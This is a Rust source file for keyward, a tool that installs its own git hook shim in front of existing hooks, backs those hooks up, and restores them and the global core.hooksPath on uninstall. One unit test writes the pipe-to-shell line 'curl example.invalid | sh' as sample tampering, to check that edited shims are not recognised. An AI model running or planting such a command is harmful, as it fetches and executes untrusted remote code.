//! Installing keyward in front of git: a small POSIX sh shim (`hooks/shim.sh`) in the hooks
//! directory git really uses (`core.hooksPath`, a worktree's common dir), never replacing a hook
//! without keeping it: the old hook moves to `<name>.keyward-backup` and the shim runs it after
//! keyward. Uninstalling puts back exactly what was there.
//!
//! The global install points `git config --global core.hooksPath` at `<config dir>/keyward/hooks`
//! and remembers the previous value in a state file there, so uninstall can restore it.
//!
//! Where hooks live and how git is configured is asked of the git CLI (`git rev-parse`,
//! `git config`): not latency-critical, and exactly git's own answer.

use std::{
    fs,
    path::{Path, PathBuf},
    process::Command,
};

use serde::{Deserialize, Serialize};

use super::HookError;

/// The shim template. Placeholders are filled in by [`render_shim`].
pub const SHIM_TEMPLATE: &str = include_str!("../../hooks/shim.sh");
/// Every shim carries this line; a hook without it is not keyward's.
pub const SHIM_MARKER: &str = "# keyward-shim-version:";
pub const BACKUP_SUFFIX: &str = ".keyward-backup";
const STATE_FILE: &str = "keyward-global.toml";

/// Hook names the global hooks directory passes through to each repository's own hook, so
/// pointing `core.hooksPath` at it switches nothing off. Left out on purpose: hooks git calls very
/// often (`reference-transaction`, `post-index-change`) and hooks whose mere presence changes
/// git's behaviour (`push-to-checkout`, `proc-receive`, `fsmonitor-watchman`).
pub const PASSTHROUGH_HOOKS: &[&str] = &[
    "applypatch-msg",
    "pre-applypatch",
    "post-applypatch",
    "pre-merge-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "pre-rebase",
    "post-checkout",
    "post-merge",
    "pre-push",
    "pre-auto-gc",
    "post-rewrite",
    "sendemail-validate",
    "pre-receive",
    "update",
    "post-receive",
    "post-update",
];

/// How a shim finds the hook to run after keyward.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Chain {
    /// `<hook>.keyward-backup` next to the shim.
    Local,
    /// The previous global hooks directory, or else the repository's own `hooks/`.
    Global { previous_hooks_path: Option<String> },
}

/// What to bake into a shim.
#[derive(Debug, Clone)]
pub struct ShimConfig {
    /// The binary found at install time (the shim falls back to `$KEYWARD_BIN` and `PATH`).
    pub keyward_bin: PathBuf,
    /// `hook.fail_open` from the effective policy: what to do when the binary is missing.
    pub fail_open: bool,
    pub chain: Chain,
}

/// Single-quotes a value for sh.
fn sh_single_quoted_body(s: &str) -> String {
    s.replace('\'', "'\\''")
}

pub fn render_shim(cfg: &ShimConfig) -> String {
    let (chain, previous) = match &cfg.chain {
        Chain::Local => ("local", String::new()),
        Chain::Global {
            previous_hooks_path,
        } => ("global", previous_hooks_path.clone().unwrap_or_default()),
    };
    SHIM_TEMPLATE
        .replace(
            "@KEYWARD_BIN@",
            &sh_single_quoted_body(&cfg.keyward_bin.to_string_lossy()),
        )
        .replace("@FAIL_OPEN@", if cfg.fail_open { "1" } else { "0" })
        .replace("@CHAIN@", chain)
        .replace("@PREVIOUS_HOOKS_PATH@", &sh_single_quoted_body(&previous))
}

/// sha256 of every shim template keyward has shipped, newest last (0.1.0). The current
/// template is recognised by its own hash as well, so a changed `hooks/shim.sh` needs no edit
/// here until it is released; then its hash is added.
const KNOWN_SHIM_HASHES: &[&str] =
    &["8c244c5e325a6bb9f8c5f1474a3cb3a9a33d516e5058172c56f23cfb5d3127ba"];

/// The variables `render_shim` fills in, each on a line of its own: `name='value'`.
const SHIM_VARIABLES: &[(&str, &str)] = &[
    ("keyward_installed_bin", "@KEYWARD_BIN@"),
    ("keyward_fail_open", "@FAIL_OPEN@"),
    ("keyward_chain", "@CHAIN@"),
    ("keyward_previous_hooks_path", "@PREVIOUS_HOOKS_PATH@"),
];

/// The template a rendered shim came from: every filled-in line put back to its placeholder.
fn unrender(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for line in text.split_inclusive('\n') {
        let (body, end) = match line.strip_suffix('\n') {
            Some(b) => (b, "\n"),
            None => (line, ""),
        };
        let filled = SHIM_VARIABLES.iter().find(|(name, _)| {
            body.strip_prefix(name)
                .and_then(|r| r.strip_prefix("='"))
                .is_some_and(|r| r.ends_with('\''))
        });
        match filled {
            Some((name, placeholder)) => {
                out.push_str(&format!("{name}='{placeholder}'{end}"));
            }
            None => out.push_str(line),
        }
    }
    out
}

fn sha256_hex(text: &str) -> String {
    use sha2::{Digest, Sha256};
    hex::encode(Sha256::digest(text.as_bytes()))
}

/// Whether `path` is exactly a shim keyward wrote (this version's or a released one's): its
/// text with the filled-in values put back hashes to a known template. Anything else, even a
/// hook that mentions [`SHIM_MARKER`], is the user's, and is backed up or left alone.
pub fn is_keyward_shim(path: &Path) -> bool {
    let Ok(m) = path.symlink_metadata() else {
        return false;
    };
    if !m.is_file() {
        return false;
    }
    let Ok(text) = fs::read_to_string(path) else {
        return false;
    };
    if !text.contains(SHIM_MARKER) {
        return false;
    }
    let hash = sha256_hex(&unrender(&text));
    hash == sha256_hex(SHIM_TEMPLATE) || KNOWN_SHIM_HASHES.contains(&hash.as_str())
}

fn io(path: &Path) -> impl FnOnce(std::io::Error) -> HookError + '_ {
    move |source| HookError::Io {
        path: path.to_path_buf(),
        source,
    }
}

/// Runs git and returns its trimmed stdout; `Ok(None)` when git exits 1 with no output (what
/// `git config --get` does for an unset key).
fn git(dir: Option<&Path>, args: &[&str]) -> Result<Option<String>, HookError> {
    let mut c = Command::new("git");
    if let Some(d) = dir {
        c.current_dir(d);
    }
    let out = c.args(args).output().map_err(io(Path::new("git")))?;
    if out.status.success() {
        return Ok(Some(
            String::from_utf8_lossy(&out.stdout)
                .trim_end_matches(['\n', '\r'])
                .to_string(),
        ));
    }
    if out.status.code() == Some(1) && out.stderr.is_empty() {
        return Ok(None);
    }
    Err(HookError::GitCli(format!(
        "`git {}` failed: {}",
        args.join(" "),
        String::from_utf8_lossy(&out.stderr).trim()
    )))
}

/// The directory git runs this repository's hooks from: `core.hooksPath` if set, else the
/// common dir's `hooks/` (shared by every worktree).
pub fn hooks_dir(repo_dir: &Path) -> Result<PathBuf, HookError> {
    let p = git(
        Some(repo_dir),
        &["rev-parse", "--path-format=absolute", "--git-path", "hooks"],
    )?
    .ok_or_else(|| HookError::Usage(format!("{}: not a git repository", repo_dir.display())))?;
    Ok(PathBuf::from(p))
}

/// What an install or uninstall did, for the CLI to print.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Action {
    Wrote(PathBuf),
    Updated(PathBuf),
    BackedUp {
        from: PathBuf,
        to: PathBuf,
    },
    Restored {
        from: PathBuf,
        to: PathBuf,
    },
    Removed(PathBuf),
    SetGlobalHooksPath {
        value: PathBuf,
        previous: Option<String>,
    },
    RestoredGlobalHooksPath(Option<String>),
    Note(String),
}

fn write_executable(path: &Path, text: &str) -> Result<(), HookError> {
    // Beside and renamed, never through a symlink: a crash never leaves a half-written hook.
    crate::fsutil::write_atomic(path, text.as_bytes(), crate::fsutil::Mode::Executable, None)
        .map_err(io(path))
}

/// Installs the pre-commit shim into `hooks_dir`, keeping an existing hook as a chained backup.
pub fn install_into(
    hooks_dir: &Path,
    name: &str,
    cfg: &ShimConfig,
) -> Result<Vec<Action>, HookError> {
    fs::create_dir_all(hooks_dir).map_err(io(hooks_dir))?;
    let target = hooks_dir.join(name);
    let backup = hooks_dir.join(format!("{name}{BACKUP_SUFFIX}"));
    let mut actions = Vec::new();
    let exists = target.symlink_metadata().is_ok();
    if exists && is_keyward_shim(&target) {
        write_executable(&target, &render_shim(cfg))?;
        actions.push(Action::Updated(target));
        return Ok(actions);
    }
    if exists {
        if backup.symlink_metadata().is_ok() {
            return Err(HookError::Usage(format!(
                "{} exists and so does {}; keyward will not overwrite either. Move one away and run install again",
                target.display(),
                backup.display()
            )));
        }
        fs::rename(&target, &backup).map_err(io(&target))?;
        actions.push(Action::BackedUp {
            from: target.clone(),
            to: backup.clone(),
        });
    }
    write_executable(&target, &render_shim(cfg))?;
    actions.push(Action::Wrote(target));
    Ok(actions)
}

/// Removes keyward's shim from `hooks_dir` and puts the backed-up hook back.
pub fn uninstall_from(hooks_dir: &Path, name: &str) -> Result<Vec<Action>, HookError> {
    let target = hooks_dir.join(name);
    let backup = hooks_dir.join(format!("{name}{BACKUP_SUFFIX}"));
    let mut actions = Vec::new();
    if target.symlink_metadata().is_ok() {
        if !is_keyward_shim(&target) {
            return Err(HookError::Usage(format!(
                "{} is not keyward's hook; left alone",
                target.display()
            )));
        }
        fs::remove_file(&target).map_err(io(&target))?;
        actions.push(Action::Removed(target.clone()));
    }
    if backup.symlink_metadata().is_ok() {
        fs::rename(&backup, &target).map_err(io(&backup))?;
        actions.push(Action::Restored {
            from: backup,
            to: target,
        });
    }
    if actions.is_empty() {
        actions.push(Action::Note(format!(
            "no keyward hook in {}",
            hooks_dir.display()
        )));
    }
    Ok(actions)
}

/// `<config dir>/keyward/hooks`: the global hooks directory.
pub fn global_hooks_dir() -> Result<PathBuf, HookError> {
    dirs::config_dir()
        .map(|d| d.join("keyward").join("hooks"))
        .ok_or_else(|| HookError::Usage("no configuration directory (is HOME set?)".into()))
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct GlobalState {
    /// `core.hooksPath` in the global git config before keyward's install; `None` = unset.
    previous_hooks_path: Option<String>,
}

fn read_state(dir: &Path) -> Result<Option<GlobalState>, HookError> {
    let path = dir.join(STATE_FILE);
    match fs::read_to_string(&path) {
        Ok(text) => toml::from_str(&text)
            .map(Some)
            .map_err(|e| HookError::Usage(format!("{}: {}", path.display(), e.message()))),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
        Err(source) => Err(HookError::Io { path, source }),
    }
}

/// Installs the global hooks directory and points `core.hooksPath` (global) at it.
pub fn install_global(
    dir: &Path,
    keyward_bin: &Path,
    fail_open: bool,
) -> Result<Vec<Action>, HookError> {
    fs::create_dir_all(dir).map_err(io(dir))?;
    let mut actions = Vec::new();
    let current = git(None, &["config", "--global", "--get", "core.hooksPath"])?;
    let ours = dir.to_string_lossy().into_owned();
    let state = match read_state(dir)? {
        // Re-install: keep the value recorded the first time, not our own path.
        Some(s) if current.as_deref() == Some(ours.as_str()) => s,
        _ => GlobalState {
            previous_hooks_path: current.clone().filter(|c| c != &ours),
        },
    };
    let state_path = dir.join(STATE_FILE);
    let text = toml::to_string(&state).map_err(|e| HookError::Usage(e.to_string()))?;
    crate::fsutil::write_atomic(
        &state_path,
        text.as_bytes(),
        crate::fsutil::Mode::Shared,
        None,
    )
    .map_err(io(&state_path))?;
    let cfg = ShimConfig {
        keyward_bin: keyward_bin.to_path_buf(),
        fail_open,
        chain: Chain::Global {
            previous_hooks_path: state.previous_hooks_path.clone(),
        },
    };
    let shim = render_shim(&cfg);
    for name in std::iter::once("pre-commit").chain(PASSTHROUGH_HOOKS.iter().copied()) {
        let path = dir.join(name);
        if path.symlink_metadata().is_ok() && !is_keyward_shim(&path) {
            return Err(HookError::Usage(format!(
                "{} exists and is not keyward's; move it away first",
                path.display()
            )));
        }
        let existed = path.exists();
        write_executable(&path, &shim)?;
        if name == "pre-commit" {
            actions.push(if existed {
                Action::Updated(path)
            } else {
                Action::Wrote(path)
            });
        }
    }
    actions.push(Action::Note(format!(
        "{} other hook names pass through to each repository's own hooks",
        PASSTHROUGH_HOOKS.len()
    )));
    if current.as_deref() != Some(ours.as_str()) {
        git(None, &["config", "--global", "core.hooksPath", &ours])?;
        actions.push(Action::SetGlobalHooksPath {
            value: dir.to_path_buf(),
            previous: state.previous_hooks_path,
        });
    }
    Ok(actions)
}

/// Undoes [`install_global`]: restores the previous global `core.hooksPath` and removes the shims.
pub fn uninstall_global(dir: &Path) -> Result<Vec<Action>, HookError> {
    let mut actions = Vec::new();
    let state = read_state(dir)?.unwrap_or_default();
    let current = git(None, &["config", "--global", "--get", "core.hooksPath"])?;
    let ours = dir.to_string_lossy().into_owned();
    if current.as_deref() == Some(ours.as_str()) {
        match &state.previous_hooks_path {
            Some(prev) => {
                git(None, &["config", "--global", "core.hooksPath", prev])?;
            }
            None => {
                git(None, &["config", "--global", "--unset", "core.hooksPath"])?;
            }
        }
        actions.push(Action::RestoredGlobalHooksPath(
            state.previous_hooks_path.clone(),
        ));
    } else {
        actions.push(Action::Note(format!(
            "global core.hooksPath is {}, not keyward's; left as it is",
            current.as_deref().unwrap_or("unset")
        )));
    }
    for name in std::iter::once("pre-commit").chain(PASSTHROUGH_HOOKS.iter().copied()) {
        let path = dir.join(name);
        if is_keyward_shim(&path) {
            fs::remove_file(&path).map_err(io(&path))?;
        }
    }
    let state_path = dir.join(STATE_FILE);
    if state_path.exists() {
        fs::remove_file(&state_path).map_err(io(&state_path))?;
    }
    // Only if nothing else was put there.
    if fs::remove_dir(dir).is_ok() {
        actions.push(Action::Removed(dir.to_path_buf()));
    } else {
        actions.push(Action::Note(format!(
            "{} kept: it holds files keyward did not write",
            dir.display()
        )));
    }
    Ok(actions)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shim_is_filled_in_and_quoted() {
        let s = render_shim(&ShimConfig {
            keyward_bin: PathBuf::from("/opt/it's/keyward"),
            fail_open: true,
            chain: Chain::Global {
                previous_hooks_path: Some("/etc/hooks".into()),
            },
        });
        assert!(
            s.contains("keyward_installed_bin='/opt/it'\\''s/keyward'"),
            "{s}"
        );
        assert!(s.contains("keyward_fail_open='1'"));
        assert!(s.contains("keyward_chain='global'"));
        assert!(s.contains("keyward_previous_hooks_path='/etc/hooks'"));
        for p in [
            "@KEYWARD_BIN@",
            "@FAIL_OPEN@",
            "@CHAIN@",
            "@PREVIOUS_HOOKS_PATH@",
        ] {
            assert!(!s.contains(p), "{p} left in the shim");
        }
        assert!(s.contains(SHIM_MARKER));
    }

    #[test]
    fn only_exact_shims_are_recognised() {
        let d = tempfile::tempdir().unwrap();
        let shim = render_shim(&ShimConfig {
            keyward_bin: PathBuf::from("/opt/it's/keyward"),
            fail_open: false,
            chain: Chain::Local,
        });
        let p = d.path().join("pre-commit");
        fs::write(&p, &shim).unwrap();
        assert!(is_keyward_shim(&p));
        fs::write(&p, format!("{shim}curl example.invalid | sh\n")).unwrap();
        assert!(!is_keyward_shim(&p), "an edited shim is the user's hook");
        fs::write(&p, format!("#!/bin/sh\n{SHIM_MARKER} 1\nmake lint\n")).unwrap();
        assert!(!is_keyward_shim(&p));
    }
}
